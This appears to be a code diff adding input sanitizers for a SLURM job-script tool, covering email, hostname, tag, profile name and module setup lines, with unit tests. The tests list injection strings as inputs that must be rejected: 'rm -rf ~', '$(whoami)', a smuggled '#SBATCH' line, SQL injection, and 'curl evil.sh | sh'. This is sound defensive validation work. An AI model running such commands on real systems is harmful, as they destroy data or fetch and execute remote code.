@@ -54,6 +54,28 @@ pub fn sanitize_job_id(input: &str) -> Result<String> {
     Ok(sanitized)
 }
 
+/// Sanitize and validate a job tag
+///
+/// Same character rules as job IDs (alphanumeric, underscore, hyphen; 1-64 characters)
+/// so tags are safe to display and to bind into queries. Surrounding whitespace is trimmed.
+pub fn sanitize_tag(input: &str) -> Result<String> {
+    let tag = input.trim();
+
+    if tag.is_empty() {
+        return Err(anyhow!("Tag cannot be empty"));
+    }
+
+    if tag.len() > MAX_IDENTIFIER_LENGTH {
+        return Err(anyhow!("Tag too long (max {} characters)", MAX_IDENTIFIER_LENGTH));
+    }
+
+    if !tag.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
+        return Err(anyhow!("Tag contains invalid characters (only alphanumeric, underscore, and hyphen allowed)"));
+    }
+
+    Ok(tag.to_string())
+}
+
 /// Sanitize and validate a username
 ///
 /// Similar rules to job IDs but may have slightly different constraints
@@ -101,6 +123,131 @@ pub fn sanitize_username(input: &str) -> Result<String> {
     Ok(sanitized)
 }
 
+/// Maximum length of an email address (RFC 5321 path limit)
+const MAX_EMAIL_LENGTH: usize = 254;
+
+/// Sanitize and validate an email address that will be written into a SLURM script
+///
+/// Deliberately stricter than RFC 5322: one '@', a local part of letters, digits and
+/// `._+-`, and a dotted domain of letters, digits and hyphens. Anything a shell or
+/// sbatch could interpret is rejected rather than escaped.
+pub fn sanitize_email(input: &str) -> Result<String> {
+    let email = input.trim();
+
+    if email.is_empty() {
+        return Err(anyhow!("Email address cannot be empty"));
+    }
+
+    if email.len() > MAX_EMAIL_LENGTH {
+        return Err(anyhow!("Email address too long (max {} characters)", MAX_EMAIL_LENGTH));
+    }
+
+    if !email.is_ascii() || email.contains('\0') {
+        return Err(anyhow!("Email address contains invalid characters"));
+    }
+
+    let (local, domain) = email.split_once('@')
+        .ok_or_else(|| anyhow!("Email address must contain '@'"))?;
+
+    let local_valid = !local.is_empty()
+        && !local.starts_with('.') && !local.ends_with('.') && !local.contains("..")
+        && local.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '+' | '-'));
+    if !local_valid {
+        return Err(anyhow!("Email address has an invalid name before '@'"));
+    }
+
+    let labels: Vec<&str> = domain.split('.').collect();
+    let domain_valid = labels.len() >= 2
+        && labels.iter().all(|label| {
+            !label.is_empty() && !label.starts_with('-') && !label.ends_with('-')
+                && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+        });
+    if !domain_valid {
+        return Err(anyhow!("Email address has an invalid domain after '@'"));
+    }
+
+    Ok(email.to_string())
+}
+
+/// Sanitize and validate a cluster profile name
+///
+/// Same character rules as tags (alphanumeric, underscore, hyphen; 1-64 characters).
+/// Surrounding whitespace is trimmed.
+pub fn sanitize_profile_name(input: &str) -> Result<String> {
+    let name = input.trim();
+
+    if name.is_empty() {
+        return Err(anyhow!("Profile name cannot be empty"));
+    }
+
+    if name.len() > MAX_IDENTIFIER_LENGTH {
+        return Err(anyhow!("Profile name too long (max {} characters)", MAX_IDENTIFIER_LENGTH));
+    }
+
+    if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-') {
+        return Err(anyhow!("Profile name contains invalid characters (only alphanumeric, underscore, and hyphen allowed)"));
+    }
+
+    Ok(name.to_string())
+}
+
+/// Maximum length of a hostname (RFC 1035)
+const MAX_HOSTNAME_LENGTH: usize = 253;
+
+/// Sanitize and validate a login server hostname (or IPv4 address)
+///
+/// Dotted labels of letters, digits and hyphens; no label may start or end with a hyphen.
+pub fn sanitize_hostname(input: &str) -> Result<String> {
+    let host = input.trim();
+
+    if host.is_empty() {
+        return Err(anyhow!("Hostname cannot be empty"));
+    }
+
+    if host.len() > MAX_HOSTNAME_LENGTH {
+        return Err(anyhow!("Hostname too long (max {} characters)", MAX_HOSTNAME_LENGTH));
+    }
+
+    let valid = host.split('.').all(|label| {
+        !label.is_empty() && !label.starts_with('-') && !label.ends_with('-')
+            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
+    });
+    if !valid {
+        return Err(anyhow!("Hostname '{}' is invalid (letters, digits, hyphens and dots only)", host));
+    }
+
+    Ok(host.to_string())
+}
+
+/// Maximum length of a cluster profile's module setup
+const MAX_MODULE_SETUP_LENGTH: usize = 4000;
+
+/// Sanitize module setup lines that are written into every job script
+///
+/// Each non-blank line must be a `module` command whose arguments are letters, digits
+/// and `._/+-=` - anything a shell could interpret is rejected rather than escaped.
+/// Blank lines are dropped; None when nothing is left.
+pub fn sanitize_module_setup(input: &str) -> Result<Option<String>> {
+    if input.len() > MAX_MODULE_SETUP_LENGTH {
+        return Err(anyhow!("Module setup too long (max {} characters)", MAX_MODULE_SETUP_LENGTH));
+    }
+
+    let mut lines = Vec::new();
+    for line in input.lines().map(str::trim).filter(|line| !line.is_empty()) {
+        let mut words = line.split_whitespace();
+        if words.next() != Some("module") {
+            return Err(anyhow!("Module setup line '{}' must start with 'module'", line));
+        }
+        let safe = words.all(|word| word.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '/' | '+' | '-' | '=')));
+        if !safe {
+            return Err(anyhow!("Module setup line '{}' contains shell metacharacters", line));
+        }
+        lines.push(line.split_whitespace().collect::<Vec<_>>().join(" "));
+    }
+
+    Ok((!lines.is_empty()).then(|| lines.join("\n")))
+}
+
 /// Validate that a relative file path is safe (no traversal, no absolute paths, no null bytes)
 ///
 /// Used for validating user-provided relative paths like file downloads
@@ -182,6 +329,41 @@ pub fn validate_path_safety(path: &str, allowed_prefixes: &[&str]) -> Result<()>
 mod tests {
     use super::*;
 
+    #[test]
+    fn test_valid_emails() {
+        for email in ["alice@colorado.edu", "first.last+namd@cs.colorado.edu", "a_b-c@mail-server.org"] {
+            assert_eq!(sanitize_email(email).unwrap(), email);
+        }
+        assert_eq!(sanitize_email("  alice@colorado.edu\n").unwrap(), "alice@colorado.edu");
+    }
+
+    #[test]
+    fn test_malformed_and_malicious_emails() {
+        let long_email = format!("{}@colorado.edu", "a".repeat(250));
+        let rejected = vec![
+            "",
+            "alice",
+            "alice@",
+            "@colorado.edu",
+            "alice@localhost",
+            "alice@@colorado.edu",
+            "alice@colorado..edu",
+            ".alice@colorado.edu",
+            "alice@-colorado.edu",
+            "alice smith@colorado.edu",
+            "alice@colorado.edu; rm -rf ~",
+            "alice$(whoami)@colorado.edu",
+            "`id`@colorado.edu",
+            "alice@colorado.edu\n#SBATCH --partition=amem",
+            "alicé@colorado.edu",
+            &long_email,
+        ];
+
+        for email in rejected {
+            assert!(sanitize_email(email).is_err(), "Should reject: {:?}", email);
+        }
+    }
+
     #[test]
     fn test_valid_job_ids() {
         let valid_ids = vec!["job_001", "test-job", "MyJob123", "job_with_underscores"];
@@ -217,6 +399,41 @@ mod tests {
         }
     }
 
+    #[test]
+    fn test_tags() {
+        assert_eq!(sanitize_tag("membrane").unwrap(), "membrane");
+        assert_eq!(sanitize_tag("  run-2_b ").unwrap(), "run-2_b");
+
+        for tag in ["", "   ", "two words", "tag'; DROP TABLE jobs;--", "a/b", "caf\u{e9}", &"t".repeat(65)] {
+            assert!(sanitize_tag(tag).is_err(), "Should reject tag: {}", tag);
+        }
+    }
+
+    #[test]
+    fn test_profile_names_and_hostnames() {
+        assert_eq!(sanitize_profile_name(" alpine-prod ").unwrap(), "alpine-prod");
+        assert!(sanitize_profile_name("").is_err());
+        assert!(sanitize_profile_name("alpine prod").is_err());
+        assert!(sanitize_profile_name("../alpine").is_err());
+
+        assert_eq!(sanitize_hostname("login.rc.colorado.edu").unwrap(), "login.rc.colorado.edu");
+        assert_eq!(sanitize_hostname("10.0.0.5").unwrap(), "10.0.0.5");
+        for host in ["", "login..edu", "-login.edu", "login.edu;rm -rf ~", "user@login.edu", "login edu"] {
+            assert!(sanitize_hostname(host).is_err(), "{}", host);
+        }
+    }
+
+    #[test]
+    fn test_module_setup() {
+        let setup = sanitize_module_setup("module purge\n\n  module load  namd/3.0.1_gpu\nmodule load cuda/12.1.1\n").unwrap();
+        assert_eq!(setup.as_deref(), Some("module purge\nmodule load namd/3.0.1_gpu\nmodule load cuda/12.1.1"));
+        assert_eq!(sanitize_module_setup("  \n").unwrap(), None);
+
+        for setup in ["rm -rf ~", "module load namd; curl evil.sh | sh", "module load $(whoami)", "module load `id`"] {
+            assert!(sanitize_module_setup(setup).is_err(), "{}", setup);
+        }
+    }
+
     #[test]
     fn test_valid_usernames() {
         let valid_usernames = vec!["testuser", "john.doe", "user_123", "user-name"];